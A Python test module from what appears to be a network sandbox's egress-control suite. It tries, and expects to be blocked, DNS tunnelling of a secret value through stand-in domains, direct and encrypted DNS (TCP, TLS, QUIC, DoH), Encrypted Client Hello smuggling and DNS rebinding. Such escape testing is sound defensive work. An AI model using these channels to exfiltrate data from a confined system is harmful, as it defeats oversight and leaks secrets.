"""Lines 11 to 14: names as a way out, and names that lead somewhere else the second time."""

import contextlib
import socket
import ssl
import struct
from functools import partial

from childproof.escape.table import AROUND, Absent, Closed, add, attempt, denied, reset
from childproof.escape.talk import SECRET, asked, datagram, exchange, fetch, get, over_tls, question, reads, secure
from childproof.escape.ways import Way

_BY_PROXY = Absent("the proxy takes names with its calls: it answers no queries")

for _part, _name, _type, _number, _answers in (
    ("11a", "a", "A", 1, 1),
    ("12a", "txt", "TXT", 16, 0),
    ("12b", "null", "NULL", 10, 0),
    ("12b", "any", "ANY", 255, 0),
    ("12b", "axfr", "AXFR", 252, 0),
    ("12c", "svcb", "SVCB", 64, 0),
    ("12c", "https", "HTTPS", 65, 0),
):

    def _ask(way: Way, name: str, number: int) -> str:
        del way
        return asked(f"{SECRET}.{name}.tunnel.example", number)

    add(
        _part,
        f"dns_{_name}",
        partial(_ask, name=_name, number=_number),
        direct=Closed((f"code 0, {_answers} answers",), f"DNS {_type} {SECRET}.{_name}.tunnel.example", "reply"),
        proxied=AROUND,
    )


@attempt("11a", direct=Closed(("code 0, 0",), "DNS TXT " + "a" * 63 + "." + "b" * 63, "reply"), proxied=AROUND)
def long_labels(way: Way) -> str:
    """As much as a name holds."""
    del way
    return asked("a" * 63 + "." + "b" * 63 + ".long.example", 16)


@attempt("11a", denied(f"GET http://{SECRET}.labels.example/"))
def data_in_the_name_of_a_call(way: Way) -> str:
    """A name that says something, as a call's host."""
    host = f"{SECRET}.labels.example"
    return exchange(way, host, 80, get(host))


@attempt("11b", direct=Closed(("code 0, 0",), f"DNS TXT {SECRET}.direct.example", "reply"), proxied=AROUND)
def a_direct_resolver(way: Way) -> str:
    """Whoever is asked on port 53."""
    del way
    return asked(f"{SECRET}.direct.example", 16, "8.8.8.8")


@attempt("11b", direct=Closed(("code 0, 0",), f"DNS TXT {SECRET}.stub.example", "reply"), proxied=AROUND)
def the_machines_stub_resolver(way: Way) -> str:
    """127.0.0.53, where systemd-resolved listens."""
    del way
    return asked(f"{SECRET}.stub.example", 16, "127.0.0.53")


@attempt("11b", direct=Closed(("code 4", "code 1", "TimeoutError"), "is not a standard query"), proxied=AROUND)
def what_is_no_query(way: Way) -> str:
    """Other bytes to port 53."""
    del way
    return f"code {bytes.fromhex(datagram('8.8.8.8', 53, b'\0\1' + SECRET.encode()))[3] & 15}"


@attempt(
    "11c",
    direct=Closed(("answered",), f"DNS TXT {SECRET}.overtcp.example", "reply"),
    proxied=reset("TCP 9.9.9.9:53"),
)
def dns_over_tcp(way: Way) -> str:
    """The same with a length before it."""
    query = question(f"{SECRET}.overtcp.example", 16)
    with way.dial("9.9.9.9", 53) as sock:
        sock.sendall(struct.pack("!H", len(query)) + query)
        answer = reads(sock, 12)
        return answer if answer == "reset" else "answered"


@attempt("11d", Closed(("ConnectionResetError", "Refused: HTTP/1.1 403"), "TCP 9.9.9.9:853"))
def dns_over_tls(way: Way) -> str:
    """Port 853, by TLS."""
    with secure(way, "9.9.9.9", 853, sni="dns.quad9.net") as sock:
        return str(sock.version())


@attempt("11e", direct=Closed(("ConnectionRefusedError",), "UDP 203.0.113.32:853"), proxied=AROUND)
def dns_over_quic(way: Way) -> str:
    """Port 853, by UDP."""
    del way
    return datagram("203.0.113.32", 853)


@attempt("11f", denied("GET http://doh.allowed.example/dns-query"))
def doh_to_an_allowed_host(way: Way) -> str:
    """A host that rules allow for other paths."""
    return exchange(way, "doh.allowed.example", 80, get("doh.allowed.example", "/dns-query?dns=AAAB"))


@attempt("11g", denied("GET https://dns.google/dns-query"))
def doh_by_name(way: Way) -> str:
    """A resolver that everybody knows."""
    return over_tls(way, "dns.google", get("dns.google", "/dns-query?dns=AAAB"))


@attempt("11g", denied("GET https://1.1.1.1/dns-query"))
def doh_by_address(way: Way) -> str:
    """The same, without a name to resolve first."""
    return over_tls(way, "1.1.1.1", get("1.1.1.1", "/dns-query?dns=AAAB"), sni=None)


@attempt("12d", Closed(("hello",), "ech.allowed.example:443"))
def encrypted_client_hello(way: Way) -> str:
    """An extension 0xfe0d, as ECH has it: the name inside is nobody's to read, and the one outside is judged."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    tls = context.wrap_bio(incoming, outgoing, server_hostname="ech.allowed.example")
    with contextlib.suppress(ssl.SSLWantReadError):
        tls.do_handshake()
    with way.dial("ech.allowed.example", 443) as sock:
        sock.sendall(_with_ech(outgoing.read()))
        return "hello" if sock.recv(3)[:1] in (b"\x16", b"\x15") else "nothing"


def _with_ech(hello: bytes) -> bytes:
    """A ClientHello with one more extension, and its three lengths mended (RFC 8446, section 4.1.2)."""
    extension = struct.pack("!HH", 0xFE0D, 42) + bytes(42)
    body = hello[9:]
    at = 34 + 1 + body[34]
    at += 2 + int.from_bytes(body[at : at + 2])
    at += 1 + body[at]
    extensions = int.from_bytes(body[at : at + 2])
    body = body[:at] + struct.pack("!H", extensions + len(extension)) + body[at + 2 :] + extension
    return hello[:3] + struct.pack("!H", len(body) + 4) + hello[5:6] + len(body).to_bytes(3) + body


@attempt("13a", direct=Closed(("100.", "198."), "DNS A getaddrinfo.example", "reply"), proxied=denied("GET http://getaddrinfo.example/"))  # fmt: skip
def a_denied_name(way: Way) -> str:
    """Resolved by the C library where there is a resolver, by the proxy where there is none."""
    if way.curl()[0] == "--proxy":
        return exchange(way, "getaddrinfo.example", 80, get("getaddrinfo.example"))
    return str(socket.getaddrinfo("getaddrinfo.example", 80, socket.AF_INET)[0][4][0])


@attempt("13b", Closed(("HTTP/1.1 401",), "GET https://api.stripe.com/v1/balance", "stub"))
def a_stubbed_name(way: Way) -> str:
    """The stub's own words are the answer, and nobody asked where the host is."""
    return over_tls(way, "api.stripe.com", get("api.stripe.com", "/v1/balance"))


@attempt("13c", denied("GET http://unresolved.allowed.example/private"))
def an_allowed_name_for_a_denied_call(way: Way) -> str:
    """A host that a rule allows, and a path that none does."""
    return exchange(way, "unresolved.allowed.example", 80, get("unresolved.allowed.example", "/private"))


@attempt("14a", Closed(("HTTP/1.1 200 then HTTP/1.1 502",), "GET http://rebind.reached.example/public/again", "allow", ("GET rebind.reached.example/public/first",)))  # fmt: skip
def rebinding(way: Way) -> str:
    """The first answer is where the rule allows, the second is the machine itself."""
    host = "rebind.reached.example"
    one, other = (fetch(way, host, f"/public/{path}") for path in ("first", "again"))
    return f"{one[:12]} then {other[:12]}"


@attempt("14b", Closed(("HTTP/1.1 502",), "GET http://mixed.reached.example/public/mixed", "allow"))
def a_mixed_answer(way: Way) -> str:
    """One address that may be dialled and one that may not."""
    return fetch(way, "mixed.reached.example", "/public/mixed")


@attempt("14c", Closed(("HTTP/1.1 200",), "GET http://once.reached.example/public/once", "allow", ("GET once.reached.example/public/once",)))  # fmt: skip
def one_resolution_a_call(way: Way) -> str:
    """What a rule allows does arrive, at the address that was checked and nowhere else."""
    return fetch(way, "once.reached.example", "/public/once")
